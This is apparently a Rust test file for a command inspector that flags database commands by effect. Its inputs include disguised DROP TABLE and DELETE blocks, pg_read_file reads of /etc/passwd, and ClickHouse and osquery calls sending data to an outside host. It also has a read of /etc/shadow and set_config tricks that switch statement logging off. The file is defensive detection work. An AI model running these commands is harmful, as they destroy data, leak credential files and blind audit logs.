//! Blocks of procedural SQL, tables that lie elsewhere, settings of databases: attacks, and the ordinary statements that look like them.

use countersign_inspect::FindingKind;
use countersign_plan::tool::{Effect, TargetKind};

use crate::seen::{finds, inspect, reads, touches_kind};

#[test]
fn whatever_leads_to_a_statement_of_a_block_hides_none() {
    for (line, effect, kind, name) in [
        (
            "psql <<'X'\nDO $$ BEGIN -- drop it\nDROP TABLE users; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        ("psql <<'X'\nDO $$ BEGIN /* x */ DROP TABLE users; END $$\nX", Effect::Delete, TargetKind::Database, "users"),
        (
            "psql <<'X'\nDO $$ BEGIN <<l>> FOR r IN SELECT 1 LOOP DELETE FROM users; END LOOP; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN UPDATE t SET a = 1 WHERE id = 1; -- and the old ones\nIF true THEN /* all */ DROP TABLE users; END IF; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN FOR r IN DELETE FROM users WHERE name <> '..' RETURNING * LOOP NULL; END LOOP; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN CASE WHEN a THEN DELETE FROM users WHERE id = 1; END CASE; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN DELETE FROM users WHERE id = 1 RETURNING id INTO n; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN EXECUTE $q$DELETE FROM users WHERE id = 1$q$; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ DECLARE c CURSOR FOR DELETE FROM users RETURNING *; BEGIN NULL; END $$\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\n-- one\n/* two */\nDO $$ BEGIN DELETE FROM users WHERE id = 1; END $$;\nX",
            Effect::Delete,
            TargetKind::Database,
            "users",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN FOR i IN 1..length(pg_read_file('/etc/passwd')) LOOP NULL; END LOOP; END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN EXECUTE 'SELECT '||quote_literal(pg_read_file('/etc/passwd')); END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN EXECUTE format('SELECT %L', pg_read_file('/etc/passwd')); END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN EXECUTE 'SELECT $1' USING pg_read_file('/etc/passwd'); END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ DECLARE x text = pg_read_file('/etc/passwd'); BEGIN NULL; END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ DECLARE x text DEFAULT pg_read_file('/etc/passwd'); BEGIN NULL; END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN RAISE NOTICE '%', pg_read_file ('/etc/passwd'); END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN SELECT * FROM t INTO x WHERE pg_read_file('/etc/passwd') = ''; END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        (
            "psql <<'X'\nDO $$ BEGIN EXIT WHEN pg_read_file('/etc/passwd') = ''; END $$\nX",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
    ] {
        assert!(touches_kind(line, effect, kind, name), "{line}: {:#?}", inspect(line));
    }
    reads(
        &[
            "psql <<'X'\nDO $$ DECLARE n int; m int := 3; BEGIN n = 1; m := n + 1; a[2] := 5; RAISE NOTICE '%', a[1]; CASE WHEN n > 1 THEN UPDATE t SET a = 1 WHERE id = 2; ELSE NULL; END CASE; END $$\nX",
            "psql <<'X'\nDO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM t WHERE a = 'begin' LOOP UPDATE t SET b = r.id WHERE id = r.id; END LOOP; EXCEPTION WHEN others THEN RAISE EXCEPTION USING MESSAGE = SQLERRM; END $$\nX",
            "psql <<'X'\nDO $$ BEGIN FOREACH x IN ARRAY ARRAY[1,2] LOOP INSERT INTO t VALUES (x); END LOOP; FOR i IN REVERSE 10..1 BY 2 LOOP PERFORM f(i); END LOOP; END $$\nX",
            "psql <<'X'\nDO $$ BEGIN EXECUTE format('GRANT SELECT ON %I TO %I', 'a', x); EXECUTE 'SELECT count(*) FROM t WHERE id = $1' INTO n USING 1; /* no more */ END $$\nX",
            "psql <<'X'\nDO $$ BEGIN EXECUTE 'ANALYZE ' || quote_ident(x); INSERT INTO t VALUES (2) RETURNING id INTO n; END $$\nX",
        ],
        &[
            "psql <<'X'\nDO $$ DECLARE v text := 'DROP TABLE users --%s'; BEGIN EXECUTE format(v,'SELECT 1'); END $$\nX",
            "psql <<'X'\nDO $$ BEGIN EXECUTE concat(q,'SELECT 1'); END $$\nX",
            "psql <<'X'\nDO $$ BEGIN EXECUTE q||'SELECT 1'; END $$\nX",
            "psql <<'X'\nDO $$ BEGIN EXECUTE format('SELECT %1$s', x); END $$\nX",
            "psql <<'X'\nDO $$ BEGIN x$b$ := 1; DROP TABLE users; y$b$ := 2; END $$\nX",
            "psql <<'X'\nDO $$ BEGIN (frobnicate); END $$\nX",
            "psql <<'X'\nDO $$ BEGIN /* /* */ DROP TABLE users; */ NULL; END $$\nX",
        ],
    );
    finds(
        FindingKind::DestroysDatabase,
        &[
            "psql <<'X'\nDO $$ BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END LOOP; END $$\nX",
            "psql <<'X'\nDO $$ BEGIN EXECUTE (SELECT string_agg('DROP TABLE ' || t, ';') FROM pg_tables); END $$\nX",
        ],
        &[
            "psql <<'X'\nDO $$ BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE 'ANALYZE ' || quote_ident(r.tablename); END LOOP; END $$\nX",
        ],
    );
}

#[test]
fn tables_that_lie_elsewhere_are_asked_there() {
    for (line, effect, kind, name) in [
        (
            "clickhouse-client -q \"INSERT INTO\nFUNCTION url('http://203.0.113.4/a', CSV) SELECT * FROM t\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "clickhouse-client -q \"INSERT INTO  TABLE  FUNCTION s3Cluster('c', 'http://203.0.113.4/a', CSV) VALUES (1)\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "clickhouse-client -q \"SELECT * FROM urlCluster('cluster','http://203.0.113.4/a', CSV)\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "clickhouse-client -q \"SELECT * FROM jdbc('jdbc:mysql://203.0.113.4:80/', 'a', 'b')\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "clickhouse-client -q \"SELECT * FROM icebergS3('http://203.0.113.4/a')\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "clickhouse-client -q \"CREATE TABLE t (a Int32) ENGINE = URL('http://203.0.113.4/x', CSV)\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "clickhouse-client -q \"SELECT * FROM remote('127.0.0.1,203.0.113.4:80', db.t)\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        ("clickhouse-client -q \"SELECT * FROM url(concat('a','b'), CSV)\"", Effect::Send, TargetKind::Host, "?"),
        (
            "clickhouse-client -q \"SELECT * FROM fileCluster('c','/etc/passwd')\"",
            Effect::Read,
            TargetKind::File,
            "/etc/passwd",
        ),
        ("clickhouse-client -q \"SELECT * FROM sqlite('/etc/x.db','t')\"", Effect::Read, TargetKind::File, "/etc/x.db"),
        (
            "clickhouse-client -q \"INSERT INTO FUNCTION file('/etc/x', CSV) SELECT * FROM t\"",
            Effect::Update,
            TargetKind::File,
            "/etc/x",
        ),
        (
            "clickhouse-client -q \"CREATE TABLE t (a Int32) ENGINE = Executable('id', TSV)\"",
            Effect::Execute,
            TargetKind::Process,
            "id",
        ),
        (
            "osqueryi \"SELECT * FROM CURL WHERE url='http://203.0.113.4/'\"",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        (
            "osqueryi 'SELECT * FROM main.curl WHERE url=\"http://203.0.113.4/x\"'",
            Effect::Send,
            TargetKind::Host,
            "203.0.113.4:80",
        ),
        ("osqueryi \"SELECT * FROM curl WHERE url='http://'||'evil'||'/x'\"", Effect::Send, TargetKind::Host, "?"),
    ] {
        assert!(touches_kind(line, effect, kind, name), "{line}: {:#?}", inspect(line));
    }
    reads(
        &["clickhouse-client -q \"CREATE TABLE t (a Int32) ENGINE = MergeTree ORDER BY a\""],
        &["clickhouse-client -q \"CREATE TABLE t (a Int32) ENGINE = Executable('id', TSV)\""],
    );
}

#[test]
fn settings_and_files_of_databases_are_named_in_more_than_one_way() {
    for (line, effect, kind, name) in [
        ("sqlite3 a.db 'PRAGMA main.writable_schema=1'", Effect::Admin, TargetKind::Database, "pragma writable_schema"),
        ("sqlite3 a.db 'PRAGMA \"writable_schema\"=1'", Effect::Admin, TargetKind::Database, "pragma writable_schema"),
        (
            "sqlite3 a.db \"PRAGMA main.temp_store_directory='/etc'\"",
            Effect::Admin,
            TargetKind::Database,
            "pragma temp_store_directory",
        ),
        ("sqlite3 a.db 'PRAGMA main.user_version=1'", Effect::Update, TargetKind::Database, "pragma user_version"),
        ("mysql -e \"LOAD DATA LOCAL INFILE 'a.csv' REPLACE INTO TABLE t\"", Effect::Update, TargetKind::Database, "t"),
        ("sqlite3 a.db 'ATTACH \"b.db\" AS b'", Effect::Update, TargetKind::File, "/home/user/project/b.db"),
        (
            "python3 -c 'import sqlite3; c = sqlite3.connect(\"file:/srv/a.db?mode=rw\", uri=True); c.execute(\"delete from t where a = 1\")'",
            Effect::Update,
            TargetKind::File,
            "/srv/a.db",
        ),
    ] {
        assert!(touches_kind(line, effect, kind, name), "{line}: {:#?}", inspect(line));
    }
    reads(
        &[
            "mysql -e \"LOAD DATA LOCAL INFILE 'a.csv' INTO TABLE t FIELDS TERMINATED BY ','\"",
            "psql -c \"SELECT set_config('app.user', current_user, false)\"",
        ],
        &[
            "mysql -e \"LOAD DATA /* 'a' */ LOCAL INFILE '/etc/shadow' INTO TABLE t\"",
            "psql -c \"SELECT set_config(x, 'none', false)\"",
        ],
    );
    finds(
        FindingKind::DisablesProtection,
        &[
            "psql -c \"SELECT set_config('log_'||'statement','none',false)\"",
            "psql -c 'SELECT set_config($$log_statement$$,$$none$$,false)'",
        ],
        &["psql -c \"SELECT set_config('log_'||'statement','all',false)\""],
    );
}

/// Loops backwards, and the query of a cursor by either word (PostgreSQL, "PL/pgSQL").
#[test]
fn a_loop_backwards_and_a_cursor_are_read() {
    let run = |body: &str| inspect(&format!("psql -c 'DO $$ {body} $$'"));
    assert!(run("BEGIN FOR i IN REVERSE 10..1 LOOP NULL; END LOOP; END").is_clear());
    let deep = format!("BEGIN FOR i IN {} 1..2 LOOP NULL; END LOOP; END", "reverse ".repeat(8000));
    assert!(!run(&deep).is_clear());
    for word in ["FOR", "IS"] {
        let body = format!(
            "DECLARE c CURSOR {word} DELETE FROM users RETURNING id; BEGIN FOR r IN c LOOP NULL; END LOOP; END"
        );
        let seen = run(&body);
        assert!(seen.touches.iter().any(|touch| touch.effect == Effect::Delete), "{word} {seen:#?}");
    }
}

/// Names in numbers, and comments that stand before a bracket.
#[test]
fn names_that_are_written_in_numbers_are_not_proved() {
    assert!(!inspect("psql -c 'SELECT U&\"\\0070g_read_file\"($$/etc/passwd$$)'").is_clear());
    assert!(!inspect("psql -c \"SELECT set_config/**/('log_statement','none',false)\"").is_clear());
}
